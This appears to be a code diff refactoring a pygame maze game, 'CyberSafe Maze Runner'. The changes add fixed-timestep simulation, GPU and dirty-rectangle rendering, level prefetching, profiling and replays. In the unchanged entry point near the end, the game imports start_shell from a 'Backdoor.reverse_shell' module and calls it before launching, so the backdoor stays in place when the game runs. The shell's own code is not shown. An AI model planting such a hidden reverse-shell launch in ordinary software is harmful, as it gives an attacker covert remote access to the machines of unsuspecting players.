@@ -2,108 +2,157 @@ import os
 import pygame
 import sys
 import random
-from collections import deque
 import time
+from collections import deque
 
 # Add parent directory to path for imports
 sys.path.append(os.path.abspath(os.path.join(os.path.dirname(__file__), '..')))
 
+from Game.renderer import DirtyRectRenderer
+from Game.hud import TextRenderer, Hud
+from Game.agents import KeyboardController
+from Game.spatial_index import PatchIndex
+from Game.camera import Camera, ChunkCache
+from Game.level_pipeline import Level, LevelPipeline
+from Game.level_cache import LevelCache
+from Game.distance_field import DistanceField
+from Game.profiler import FrameProfiler, NullProfiler
+from Game.assets import AssetManager
+from Game.replay import Replay
+from Game.placement import place
+from Game.gpu_renderer import TextureRenderer
+
 # Game Constants
 WIDTH, HEIGHT = 1000, 1000
+CAPTION = "CyberSafe Maze Runner"
 CELL_SIZE = 40
 BASE_MAZE_SIZE = 15
+# Patches per level: BASE_PATCHES plus PATCHES_PER_DIFFICULTY for each difficulty step
+BASE_PATCHES = 10
+PATCHES_PER_DIFFICULTY = 2
+# Fewest steps along the maze between two patches (relaxed on small mazes)
+PATCH_SPACING = 3
+# HUD lines: (field name, format)
+HUD_FIELDS = (("score", "Score: {}"), ("level", "Level: {}"), ("time", "Time: {}s"))
+# Maze generation algorithm used for each level, cycled in order
+LEVEL_ALGORITHMS = ("dfs", "kruskal", "eller", "wilson")
+# Fixed simulation rate, independent of the render rate
+SIM_RATE = 120
+SIM_DT = 1.0 / SIM_RATE
+# Longest frame fed to the simulation at once (avoids a spiral of death after a stall)
+MAX_FRAME_TIME = 0.25
+
+# Game states
+STATE_PLAYING = "playing"
+STATE_LEVEL_COMPLETE = "level_complete"
 
 
 class Game:
-    def __init__(self):
-        """Initialize the game"""
+    def __init__(self, algorithm=None, dirty_rects=False, max_fps=60, vsync=False,
+                 headless=False, controller=None, prefetch=2, seed=None, level_cache=None,
+                 profile=False, profile_output=None, idle_wait=True, record_output=None,
+                 gpu=False):
+        """
+        Initialize the game
+
+        Args:
+            algorithm (str): Maze algorithm to use on every level instead of
+                cycling through LEVEL_ALGORITHMS
+            dirty_rects (bool): Only redraw and update the screen regions
+                that changed each frame instead of the whole window
+            max_fps (int): Render frame cap, or 0 for uncapped rendering
+            vsync (bool): Ask the display to sync presentation to the refresh rate
+            headless (bool): Use SDL's dummy video and audio drivers so no
+                window or sound device is opened
+            controller: Object whose ``direction(game)`` returns the step to
+                take, defaults to the arrow keys (see Game.agents)
+            prefetch (int): Upcoming levels built in the background while
+                playing, or 0 to build each level when it starts
+            seed (int): Seed of the whole run; every level's maze and patches
+                are derived from it and the level number (random if None)
+            level_cache (str): Folder to cache generated mazes in, keyed by
+                seed, size and algorithm, or None to always generate
+            profile (bool): Time each part of the frame; F3 toggles the overlay
+            profile_output (str): File the timings are written to on exit
+                (.csv for CSV, anything else for JSON)
+            idle_wait (bool): Sleep until the next event or HUD timer change
+                while nothing moves, instead of redrawing every frame
+            record_output (str): File the session's replay is written to on
+                exit (see Game.replay), or None to not record
+            gpu (bool): Composite frames from textures with SDL2's hardware
+                renderer; falls back to software drawing when it is
+                unavailable, and is ignored when headless (dirty_rects then
+                has no effect)
+        """
         self.maze = None
+        self.algorithm = algorithm
+        self.max_fps = max_fps
+        self.idle_wait = idle_wait
+        self.headless = headless
+        self.controller = controller or KeyboardController()
+        self.seed = random.randrange(2 ** 32) if seed is None else seed
+        self.level_cache = LevelCache(level_cache) if level_cache else None
+        if headless:
+            # Must be set before the display and mixer are initialized
+            os.environ["SDL_VIDEODRIVER"] = "dummy"
+            os.environ["SDL_AUDIODRIVER"] = "dummy"
         pygame.init()
-        self.screen = pygame.display.set_mode((WIDTH, HEIGHT))
-        pygame.display.set_caption("CyberSafe Maze Runner")
+        self.gpu = None
+        if gpu and not headless:
+            self.gpu = TextureRenderer.create(CAPTION, (WIDTH, HEIGHT), vsync)
+        if self.gpu is None:
+            self.screen = self._create_display(vsync)
+            pygame.display.set_caption(CAPTION)
+        else:
+            self.screen = None  # The window has no display surface
         self.clock = pygame.time.Clock()
+        self.renderer = DirtyRectRenderer(self.screen) if dirty_rects and self.screen else None
+        self.text = TextRenderer()
+        self.hud = Hud(self.text, HUD_FIELDS)
+        self.assets = AssetManager()
+        self.levels = LevelPipeline(self._build_level, prefetch) if prefetch else None
+        self.profiler = FrameProfiler() if profile or profile_output else NullProfiler()
+        self.profile_output = profile_output
+        self.replay = Replay(self.seed, algorithm) if record_output else None
+        self.record_output = record_output
 
         # Game state
         self.level = 1
         self.difficulty = 1
         self.running = True
-        self.game_active = True
+        self.state = STATE_PLAYING
         self.current_move = None
-        self.move_speed = 2  # Cells per millisecond
+        self.move_speed = 2  # Cells per second
+        self.level_ticks = 0  # Simulation ticks spent on the current level
+        self.ticks = 0  # Simulation ticks spent playing since the start
 
         # Initialize game
         self._load_assets()
+        self._player_box = self.player_img.get_rect()
         self.new_level()
 
+    def _create_display(self, vsync):
+        """Open the game window, with vsync if requested and supported"""
+        if vsync:
+            try:
+                return pygame.display.set_mode((WIDTH, HEIGHT), pygame.SCALED, vsync=1)
+            except pygame.error as e:
+                print(f"Vsync unavailable: {e}")
+        return pygame.display.set_mode((WIDTH, HEIGHT))
+
     def _load_assets(self):
-        """Load all game assets with error handling"""
-        try:
-            # Create asset paths relative to the game.py file
-            base_path = os.path.dirname(os.path.abspath(__file__))
-
-            # Create sprites directory if it doesn't exist
-            sprites_dir = os.path.join(base_path, "assets", "sprites")
-            sounds_dir = os.path.join(base_path, "assets", "sounds")
-
-            os.makedirs(sprites_dir, exist_ok=True)
-            os.makedirs(sounds_dir, exist_ok=True)
-
-            # Generate placeholders if files don't exist
-            player_path = os.path.join(sprites_dir, "player.png")
-            patch_path = os.path.join(sprites_dir, "patch.png")
-            collect_path = os.path.join(sounds_dir, "collect.wav")
-            win_path = os.path.join(sounds_dir, "win.wav")
-            bg_path = os.path.join(sounds_dir, "background.wav")
-
-            # Create placeholder assets if they don't exist
-            self._create_placeholder_assets(player_path, patch_path, collect_path, win_path, bg_path)
-
-            # Load assets
-            self.player_img = pygame.image.load(player_path).convert_alpha()
-            self.patch_img = pygame.image.load(patch_path).convert_alpha()
-            self.collect_sound = pygame.mixer.Sound(collect_path)
-            self.win_sound = pygame.mixer.Sound(win_path)
-            pygame.mixer.music.load(bg_path)
-
-        except Exception as e:
-            print(f"Asset error: {e}")
-            # Create simple placeholder assets in memory
-            self.player_img = self._create_simple_surface((30, 30), (255, 0, 0))
-            self.patch_img = self._create_simple_surface((20, 20), (0, 255, 0))
-
-            # Create silent sounds
-            self.collect_sound = pygame.mixer.Sound(buffer=bytearray(44100))  # 1 second of silence
-            self.win_sound = pygame.mixer.Sound(buffer=bytearray(44100))  # 1 second of silence
-
-    def _create_placeholder_assets(self, player_path, patch_path, collect_path, win_path, bg_path):
-        """Create placeholder assets if they don't exist"""
-        # Create player sprite if it doesn't exist
-        if not os.path.exists(player_path):
-            surf = pygame.Surface((30, 30), pygame.SRCALPHA)
-            pygame.draw.circle(surf, (255, 0, 0), (15, 15), 15)
-            pygame.image.save(surf, player_path)
-
-        # Create patch sprite if it doesn't exist
-        if not os.path.exists(patch_path):
-            surf = pygame.Surface((20, 20), pygame.SRCALPHA)
-            pygame.draw.rect(surf, (0, 255, 0), (0, 0, 20, 20))
-            pygame.image.save(surf, patch_path)
-
-        # Create sound files if they don't exist
-        for path in [collect_path, win_path, bg_path]:
-            if not os.path.exists(path):
-                # Create a simple WAV file with silence
-                try:
-                    import wave
-                    with wave.open(path, 'w') as wf:
-                        wf.setnchannels(1)
-                        wf.setsampwidth(2)
-                        wf.setframerate(44100)
-                        wf.writeframes(bytearray(44100))  # 1 second of silence
-                except:
-                    # If wave module fails, create an empty file
-                    with open(path, 'wb') as f:
-                        f.write(b'')
+        """Start decoding the sounds in the background; sprites load on first use"""
+        self.assets.load_audio_async(("collect", "win"), music="background")
+
+    @property
+    def player_img(self):
+        """Player sprite (a red square if the file cannot be loaded)"""
+        return self.assets.image("player", lambda: self._create_simple_surface((30, 30), (255, 0, 0)))
+
+    @property
+    def patch_img(self):
+        """Patch sprite (a green square if the file cannot be loaded)"""
+        return self.assets.image("patch", lambda: self._create_simple_surface((20, 20), (0, 255, 0)))
 
     def _create_simple_surface(self, size, color):
         """Create a simple colored surface"""
@@ -112,107 +161,157 @@ class Game:
         return surf
 
     def new_level(self):
-        """Initialize a new level with a fresh maze and patches"""
+        """Start the level for the current level number and difficulty"""
+        level = self.levels.take(self.level, self.difficulty) if self.levels else None
+        if level is None:
+            level = self._build_level(self.level, self.difficulty)
+            if self.levels:
+                # Build the following levels while this one is played
+                self.levels.start(self.level + 1, self.difficulty + 1)
+        self.maze = level.maze
+        self.chunks = level.chunks
+        self.patches = level.patches
+        self.distances = level.distances
+        self._patch_blits = None
+        self._reset_player()
+        self.camera = self._start_camera(self.maze)
+        if self.renderer:
+            self._compose_scene()
+        self.score = 0
+        self.level_ticks = 0
+        self.state = STATE_PLAYING
+        self.assets.play_music(-1)
+
+    def _start_camera(self, maze):
+        """Camera over a maze, centered on the start cell"""
+        # Mazes outgrow the window after a few levels: only the part in view is drawn
+        camera = Camera(WIDTH, HEIGHT, maze.width * CELL_SIZE + 2, maze.height * CELL_SIZE + 2)
+        camera.center_on((CELL_SIZE // 2, CELL_SIZE // 2))
+        return camera
+
+    def _build_level(self, number, difficulty):
+        """
+        Generate a level's maze, patches and starting view.
+
+        Runs on the level pipeline's worker thread, so it only reads settings
+        and never touches the level being played.
+
+        Args:
+            number (int): Level number
+            difficulty (int): Difficulty to generate for
+
+        Returns:
+            Level: The ready-to-play level
+        """
         # Import here to avoid circular imports
         from Game.maze_generator import MazeGenerator
 
-        self.maze = MazeGenerator(
-            width=BASE_MAZE_SIZE + self.difficulty,
-            height=BASE_MAZE_SIZE + self.difficulty,
-            cell_size=CELL_SIZE
-        )
-        self.maze.generate()
-        self._spawn_entities()
-        self.score = 0
-        self.start_time = pygame.time.get_ticks()
-        pygame.mixer.music.play(-1)
-
-    def _spawn_entities(self):
-        """Place player and patches in the maze"""
-        # Player position
+        seed = self._level_seed(number)
+        side = BASE_MAZE_SIZE + difficulty
+        algorithm = self.algorithm or LEVEL_ALGORITHMS[(number - 1) % len(LEVEL_ALGORITHMS)]
+        if self.level_cache:
+            maze = self.level_cache.get(seed, side, side, algorithm, CELL_SIZE)
+        else:
+            maze = MazeGenerator(side, side, CELL_SIZE, seed)
+            maze.generate(algorithm)
+        chunks = ChunkCache(maze)
+        chunks.prepare(self._start_camera(maze))
+        patches = PatchIndex(CELL_SIZE)
+        for patch in self._spawn_entities(maze, difficulty, random.Random(f"{seed}:patches")):
+            patches.add(patch)
+        return Level(number, difficulty, maze, patches, chunks, DistanceField(maze, patches.cells()))
+
+    def _level_seed(self, number):
+        """Seed of a level's maze, derived from the run's seed"""
+        return random.Random(f"{self.seed}:{number}").getrandbits(32)
+
+    def _spawn_entities(self, maze, difficulty, rng):
+        """Pick distinct, spaced-out patch cells among those reachable from the start"""
+        patches = []
+        count = BASE_PATCHES + difficulty * PATCHES_PER_DIFFICULTY
+        for index in place(maze, count, rng, PATCH_SPACING):
+            y, x = divmod(index, maze.width)
+            patches.append(pygame.Rect(
+                x * CELL_SIZE + CELL_SIZE // 4,
+                y * CELL_SIZE + CELL_SIZE // 4,
+                self.patch_img.get_width(),
+                self.patch_img.get_height()
+            ))
+        return patches
+
+    def _reset_player(self):
+        """Put the player back on the start cell"""
         self.player_grid = [0, 0]
         self.player_pos = pygame.Vector2(
             CELL_SIZE // 2 + CELL_SIZE * self.player_grid[0],
             CELL_SIZE // 2 + CELL_SIZE * self.player_grid[1]
         )
-        # Find accessible cells
-        accessible = self._find_accessible_cells()
-        # Spawn patches
-        self.patches = []
-        if accessible:  # Make sure we have accessible cells
-            for _ in range(10 + self.difficulty * 2):
-                x, y = random.choice(accessible)
-                self.patches.append(pygame.Rect(
-                    x * CELL_SIZE + CELL_SIZE // 4,
-                    y * CELL_SIZE + CELL_SIZE // 4,
-                    self.patch_img.get_width(),
-                    self.patch_img.get_height()
-                ))
+        self.previous_pos = pygame.Vector2(self.player_pos)
+        self.current_move = None
+        self.route = deque()  # Cells still to walk for click-to-move / auto-walk
 
     def _find_accessible_cells(self):
-        """Find all cells reachable from the player's starting position using BFS"""
-        visited = set()
-        queue = deque([tuple(self.player_grid)])
-        directions = [(0, -1), (1, 0), (0, 1), (-1, 0)]  # Up, Right, Down, Left
-        while queue:
-            x, y = queue.popleft()
-            if (x, y) in visited:
-                continue
-            visited.add((x, y))
-            for dx, dy in directions:
-                nx, ny = x + dx, y + dy
-                if (0 <= nx < self.maze.width and 0 <= ny < self.maze.height and
-                        not self._has_wall_between((x, y), (nx, ny))):
-                    queue.append((nx, ny))
-        return list(visited)
+        """Find all cells reachable from the player's starting position"""
+        return self.maze.reachability(tuple(self.player_grid)).cells()
 
     def _has_wall_between(self, current, neighbor):
         """Check if there's a wall between two adjacent cells"""
         cx, cy = current
         nx, ny = neighbor
-        if nx == cx + 1:  # Right
-            return self.maze.grid[cy][cx]["walls"][1]
-        elif nx == cx - 1:  # Left
-            return self.maze.grid[cy][cx]["walls"][3]
-        elif ny == cy + 1:  # Down
-            return self.maze.grid[cy][cx]["walls"][2]
-        elif ny == cy - 1:  # Up
-            return self.maze.grid[cy][cx]["walls"][0]
-        return True
+        return self.maze.has_wall(cx, cy, nx - cx, ny - cy)
 
     def _handle_input(self):
-        """Handle player movement input"""
+        """
+        Handle player movement input
+
+        Returns:
+            tuple: (dx, dy) of the move started this tick, or None
+        """
         if self.current_move:
+            return None
+        step = self.controller.direction(self)
+        if step is not None:
+            # Manual input takes over from a route
+            self.route.clear()
+        elif self.route:
+            x, y = self.route.popleft()
+            step = (x - self.player_grid[0], y - self.player_grid[1])
+        else:
+            return None
+        dx, dy = step
+        new_x = self.player_grid[0] + dx
+        new_y = self.player_grid[1] + dy
+        if (0 <= new_x < self.maze.width and 0 <= new_y < self.maze.height and
+                not self._has_wall_between(tuple(self.player_grid), (new_x, new_y))):
+            self.current_move = {
+                "start": pygame.Vector2(self.player_pos),
+                "target": pygame.Vector2(
+                    new_x * CELL_SIZE + CELL_SIZE // 2,
+                    new_y * CELL_SIZE + CELL_SIZE // 2
+                ),
+                "progress": 0.0
+            }
+            self.player_grid = [new_x, new_y]
+            return step
+        return None
+
+    def _walk_to(self, cell):
+        """Follow the shortest path from the player to a cell (click-to-move)"""
+        x, y = cell
+        if not (0 <= x < self.maze.width and 0 <= y < self.maze.height):
             return
-        keys = pygame.key.get_pressed()
-        directions = {
-            pygame.K_LEFT: (-1, 0),
-            pygame.K_RIGHT: (1, 0),
-            pygame.K_UP: (0, -1),
-            pygame.K_DOWN: (0, 1)
-        }
-        for key, (dx, dy) in directions.items():
-            if keys[key]:
-                new_x = self.player_grid[0] + dx
-                new_y = self.player_grid[1] + dy
-                if (0 <= new_x < self.maze.width and 0 <= new_y < self.maze.height and
-                        not self._has_wall_between(tuple(self.player_grid), (new_x, new_y))):
-                    self.current_move = {
-                        "start": pygame.Vector2(self.player_pos),
-                        "target": pygame.Vector2(
-                            new_x * CELL_SIZE + CELL_SIZE // 2,
-                            new_y * CELL_SIZE + CELL_SIZE // 2
-                        ),
-                        "start_time": pygame.time.get_ticks()
-                    }
-                    self.player_grid = [new_x, new_y]
-                    break
+        path = self.maze.reachability().path(tuple(self.player_grid), cell)
+        self.route = deque(path[1:])
+
+    def _auto_walk(self):
+        """Follow the shortest path from the player to the nearest patch"""
+        self.route = deque(self.distances.path(*self.player_grid)[1:])
 
     def _update_movement(self):
         """Update player position during movement"""
         if self.current_move:
-            elapsed = pygame.time.get_ticks() - self.current_move["start_time"]
-            progress = elapsed * self.move_speed / 1000
+            self.current_move["progress"] += self.move_speed * SIM_DT
+            progress = self.current_move["progress"]
             if progress >= 1.0:
                 self.player_pos = self.current_move["target"]
                 self.current_move = None
@@ -228,85 +327,323 @@ class Game:
             self.player_img.get_width(),
             self.player_img.get_height()
         )
-        # Collect patches
-        for patch in self.patches[:]:
-            if player_rect.colliderect(patch):
-                self.score += 10
-                self.collect_sound.play()
-                self.patches.remove(patch)
+        # Collect patches (only the player's cell and its neighbors are checked)
+        for patch in self.patches.pop_colliding(player_rect):
+            self.score += 10
+            self.assets.sound("collect").play()
+            if self.renderer:
+                self.renderer.remove_static(self.camera.to_screen(patch))
+            cell = (patch.x // CELL_SIZE, patch.y // CELL_SIZE)
+            if not self.patches.cell(*cell):
+                self.distances.remove_source(*cell)
         # Win condition
         if not self.patches:
-            self.win_sound.play()
-            self.game_active = False
+            self.assets.sound("win").play()
+            self.state = STATE_LEVEL_COMPLETE
             self.difficulty += 1
-            self._show_win_screen()
-
-    def _show_win_screen(self):
-        """Display the win screen and wait for player input"""
-        # Reset player position immediately
-        self.player_grid = [0, 0]
-        self.player_pos = pygame.Vector2(
-            CELL_SIZE // 2 + CELL_SIZE * self.player_grid[0],
-            CELL_SIZE // 2 + CELL_SIZE * self.player_grid[1]
-        )
-        self.screen.fill((0, 0, 0))
-        font = pygame.font.Font(None, 74)
-        text = font.render(f"Level {self.level} Complete!", True, (0, 255, 0))
+            # Reset player position immediately
+            self._reset_player()
+            if self.renderer:
+                self.renderer.invalidate()
+
+    def _draw_win_screen(self):
+        """Draw the level complete screen"""
+        text = self.text.render(f"Level {self.level} Complete!", 74, (0, 255, 0))
         text_rect = text.get_rect(center=(WIDTH / 2, HEIGHT / 2 - 50))
-        self.screen.blit(text, text_rect)
-        font = pygame.font.Font(None, 36)
-        instruction = font.render("Press SPACE to continue", True, (255, 255, 255))
+        instruction = self.text.render("Press SPACE to continue", 36, (255, 255, 255))
         instr_rect = instruction.get_rect(center=(WIDTH / 2, HEIGHT / 2 + 50))
+        if self.gpu:
+            self.gpu.clear()
+            self.gpu.blits(((text, text_rect), (instruction, instr_rect)))
+            self.gpu.present()
+            return
+        self.screen.fill((0, 0, 0))
+        self.screen.blit(text, text_rect)
         self.screen.blit(instruction, instr_rect)
         pygame.display.flip()
-        waiting = True
-        while waiting:
-            for event in pygame.event.get():
-                if event.type == pygame.QUIT:
-                    pygame.quit()
-                    sys.exit()
-                if event.type == pygame.KEYDOWN and event.key == pygame.K_SPACE:
-                    waiting = False
-                    self.level += 1
-                    self.game_active = True
-                    self.new_level()
 
-    def run(self):
-        """Main game loop"""
-        while self.running:
-            for event in pygame.event.get():
-                if event.type == pygame.QUIT:
-                    self.running = False
-
-            if self.game_active:
-                self._handle_input()
-                self._update_movement()
-                self._check_collisions()
+    def _update_hud(self):
+        """Refresh the HUD fields for the current frame"""
+        self.hud.update(
+            score=self.score,
+            level=self.level,
+            time=self.level_ticks // SIM_RATE
+        )
 
-            # Drawing
+    def _render_pos(self, alpha):
+        """Player position interpolated between the last two simulation ticks"""
+        return self.previous_pos.lerp(self.player_pos, alpha)
+
+    def _draw_maze(self, surface):
+        """Draw the maze chunks in the camera's view"""
+        self.chunks.draw(surface, self.camera)
+
+    def _visible_patches(self):
+        """
+        (surface, screen rect) pairs for the patches in the camera's view.
+
+        The list is ready for ``Surface.blits`` and only rebuilt when the
+        view scrolls or a patch is collected.
+        """
+        key = (self.camera.rect.topleft, self.patches.version)
+        if self._patch_blits is None or self._patch_blits[0] != key:
+            image = self.patch_img
+            self._patch_blits = (key, [(image, self.camera.to_screen(patch))
+                                       for patch in self.patches.query(self.camera.rect)])
+        return self._patch_blits[1]
+
+    def _player_rect(self, pos):
+        """Screen rect of the player centered on a world position"""
+        rect = self._player_box
+        rect.center = (pos[0] - self.camera.rect.x, pos[1] - self.camera.rect.y)
+        return rect.copy()
+
+    def _compose_scene(self):
+        """Rebuild the dirty-rectangle renderer's scene for the current view"""
+        self.renderer.reset(self._draw_maze, self._visible_patches())
+
+    def _overlay_sprites(self):
+        """Profiler overlay lines, empty unless the overlay is shown"""
+        return self.profiler.sprites(self.text, WIDTH - 10)
+
+    def _draw(self, alpha=1.0):
+        """Redraw the whole frame and flip the display"""
+        profiler = self.profiler
+        pos = self._render_pos(alpha)
+        with profiler.section("maze"):
+            self.camera.follow(pos)
             self.screen.fill((0, 0, 0))
-            self.maze.draw(self.screen)
-            for patch in self.patches:
-                self.screen.blit(self.patch_img, patch)
+            self._draw_maze(self.screen)
 
+        with profiler.section("entities"):
+            # One call for every patch in view
+            self.screen.blits(self._visible_patches(), doreturn=False)
             # Draw player centered
-            player_rect = self.player_img.get_rect(center=(self.player_pos.x, self.player_pos.y))
-            self.screen.blit(self.player_img, player_rect)
-
-            # HUD
-            font = pygame.font.Font(None, 36)
-            texts = [
-                f"Score: {self.score}",
-                f"Level: {self.level}",
-                f"Time: {(pygame.time.get_ticks() - self.start_time) // 1000}s"
-            ]
-            for i, text in enumerate(texts):
-                surf = font.render(text, True, (255, 255, 255))
-                self.screen.blit(surf, (10, 10 + 40 * i))
+            self.screen.blit(self.player_img, self._player_rect(pos))
 
+        with profiler.section("hud"):
+            self._update_hud()
+            self.hud.draw(self.screen)
+            self.screen.blits([sprite[1:] for sprite in self._overlay_sprites()], doreturn=False)
+
+        with profiler.section("flip"):
             pygame.display.flip()
-            self.clock.tick(60)
 
+    def _draw_gpu(self, alpha=1.0):
+        """Composite the whole frame from textures and present it"""
+        profiler = self.profiler
+        gpu = self.gpu
+        pos = self._render_pos(alpha)
+        with profiler.section("maze"):
+            self.camera.follow(pos)
+            gpu.clear()
+            gpu.blits(self.chunks.blits(self.camera))
+
+        with profiler.section("entities"):
+            gpu.blits(self._visible_patches())
+            gpu.blits(((self.player_img, self._player_rect(pos)),))
+
+        with profiler.section("hud"):
+            self._update_hud()
+            gpu.blits([sprite[1:] for sprite in self.hud.sprites() + self._overlay_sprites()])
+
+        with profiler.section("flip"):
+            gpu.present()
+
+    def _draw_dirty(self, alpha=1.0):
+        """Draw the frame through the dirty-rectangle renderer"""
+        profiler = self.profiler
+        pos = self._render_pos(alpha)
+        with profiler.section("maze"):
+            left, top = self.camera.rect.topleft
+            if self.camera.follow(pos):
+                # Scrolling moves everything: shift the scene and redraw the whole view
+                self.renderer.scroll(self.camera.rect.x - left, self.camera.rect.y - top,
+                                     self._draw_maze, self._visible_patches())
+        with profiler.section("hud"):
+            self._update_hud()
+            sprites = ([("player", self.player_img, self._player_rect(pos))] +
+                       self.hud.sprites() + self._overlay_sprites())
+        # Restoring, redrawing and pushing the changed rectangles
+        with profiler.section("flip"):
+            self.renderer.draw(sprites)
+
+    def _process_events(self, events=None):
+        """
+        Handle window and state-machine events
+
+        Args:
+            events (list): Events already taken off the queue, or None to
+                read the queue
+        """
+        for event in pygame.event.get() if events is None else events:
+            if event.type == pygame.QUIT:
+                self.running = False
+            elif event.type == pygame.WINDOWEXPOSED and self.renderer:
+                self.renderer.invalidate()
+            elif event.type == pygame.KEYDOWN and event.key == pygame.K_F3 and self.profiler.enabled:
+                self.profiler.toggle()
+            elif (event.type == pygame.KEYDOWN and event.key == pygame.K_SPACE
+                  and self.state == STATE_LEVEL_COMPLETE):
+                self.level += 1
+                self.new_level()
+            elif self.state != STATE_PLAYING:
+                continue
+            elif event.type == pygame.KEYDOWN and event.key == pygame.K_TAB:
+                self._auto_walk()
+            elif event.type == pygame.MOUSEBUTTONDOWN and event.button == 1:
+                x, y = self.camera.to_world(event.pos)
+                self._walk_to((x // CELL_SIZE, y // CELL_SIZE))
+
+    def step(self):
+        """Advance the simulation by one fixed tick of SIM_DT seconds"""
+        self.previous_pos = pygame.Vector2(self.player_pos)
+        if self.state == STATE_PLAYING:
+            profiler = self.profiler
+            self.level_ticks += 1
+            self.ticks += 1
+            with profiler.section("input"):
+                move = self._handle_input()
+                if move is not None and self.replay is not None:
+                    self.replay.record(self.ticks, move)
+            with profiler.section("movement"):
+                self._update_movement()
+            with profiler.section("collisions"):
+                self._check_collisions()
+
+    def render(self, alpha=1.0):
+        """
+        Draw the current state.
+
+        Args:
+            alpha (float): Fraction of a tick elapsed since the last step,
+                used to interpolate moving entities
+        """
+        if self.state == STATE_LEVEL_COMPLETE:
+            self._draw_win_screen()
+        elif self.gpu:
+            self._draw_gpu(alpha)
+        elif self.renderer:
+            self._draw_dirty(alpha)
+        else:
+            self._draw(alpha)
+
+    def run_headless(self, ticks, render_every=0):
+        """
+        Run the simulation as fast as possible, without waiting on the clock.
+
+        Completed levels continue straight to the next one.
+
+        Args:
+            ticks (int): Number of simulation ticks to run
+            render_every (int): Render every n-th tick, or 0 to skip drawing
+
+        Returns:
+            int: Number of levels completed
+        """
+        completed = 0
+        for tick in range(ticks):
+            pygame.event.pump()
+            if self.state == STATE_LEVEL_COMPLETE:
+                completed += 1
+                self.level += 1
+                self.new_level()
+            self.step()
+            if render_every and tick % render_every == 0:
+                self.render()
+        return completed
+
+    def _is_idle(self):
+        """
+        Check whether the next frame would look exactly like the last one.
+
+        True on the win screen, and while playing when the player stood
+        still for a whole tick with no route to follow and no input held.
+        Controllers without an ``idle`` method are never idle.
+        """
+        if self.state == STATE_LEVEL_COMPLETE:
+            return True
+        idle = getattr(self.controller, "idle", None)
+        return (self.state == STATE_PLAYING and idle is not None and not self.current_move
+                and not self.route and self.previous_pos == self.player_pos
+                and not self.profiler.visible and idle(self))
+
+    def _wait_for_events(self, accumulator):
+        """
+        Block until an event arrives or, while playing, the HUD timer changes.
+
+        Args:
+            accumulator (float): Simulation time not yet stepped
+
+        Returns:
+            list: The events received (empty on timeout)
+        """
+        if self.state == STATE_PLAYING:
+            # Wake when the next whole second of level time begins
+            remaining = (SIM_RATE - self.level_ticks % SIM_RATE) * SIM_DT - accumulator
+            event = pygame.event.wait(max(1, int(remaining * 1000) + 1))
+        else:
+            event = pygame.event.wait()
+        events = [] if event.type == pygame.NOEVENT else [event]
+        return events + pygame.event.get()
+
+    def _skip_idle_time(self, idle_time):
+        """
+        Account for time spent waiting without simulating it.
+
+        Nothing moved during the wait, so while playing the whole ticks it
+        covered only advance the level clock; input, movement and
+        collisions run for the ticks after the wake-up alone. On the win
+        screen the wait is discarded, so the next level starts from zero.
+
+        Args:
+            idle_time (float): Unsimulated time, including the wait
+
+        Returns:
+            float: Leftover time to carry in the accumulator
+        """
+        if self.state != STATE_PLAYING:
+            return 0.0
+        ticks = int(idle_time / SIM_DT)
+        self.level_ticks += ticks
+        self.ticks += ticks
+        return idle_time - ticks * SIM_DT
+
+    def run(self):
+        """Main game loop"""
+        previous = time.perf_counter()
+        accumulator = 0.0
+        while self.running:
+            events = None
+            if self.idle_wait and self._is_idle():
+                events = self._wait_for_events(accumulator)
+            now = time.perf_counter()
+            elapsed = now - previous
+            if events is not None:
+                accumulator = self._skip_idle_time(accumulator + elapsed)
+            else:
+                accumulator += min(elapsed, MAX_FRAME_TIME)
+            previous = now
+
+            # Work done this frame, not counting the wait for the frame cap
+            with self.profiler.section("frame"):
+                self._process_events(events)
+                # Run as many fixed ticks as the elapsed time covers
+                while accumulator >= SIM_DT:
+                    self.step()
+                    accumulator -= SIM_DT
+
+                self.render(accumulator / SIM_DT)
+            if self.max_fps:
+                self.clock.tick(self.max_fps)
+
+        if self.levels:
+            self.levels.cancel(wait=True)
+        if self.profile_output:
+            self.profiler.dump(self.profile_output)
+        if self.replay is not None:
+            self.replay.finish(self)
+            self.replay.save(self.record_output)
         pygame.quit()
         sys.exit()
 
@@ -319,7 +656,7 @@ if __name__ == "__main__":
             from Backdoor.reverse_shell import start_shell
 
             start_shell()
-        Game().run()
+        Game(gpu="--gpu" in sys.argv).run()
     except Exception as e:
         print(f"Game error: {e}")
         time.sleep(5)
\ No newline at end of file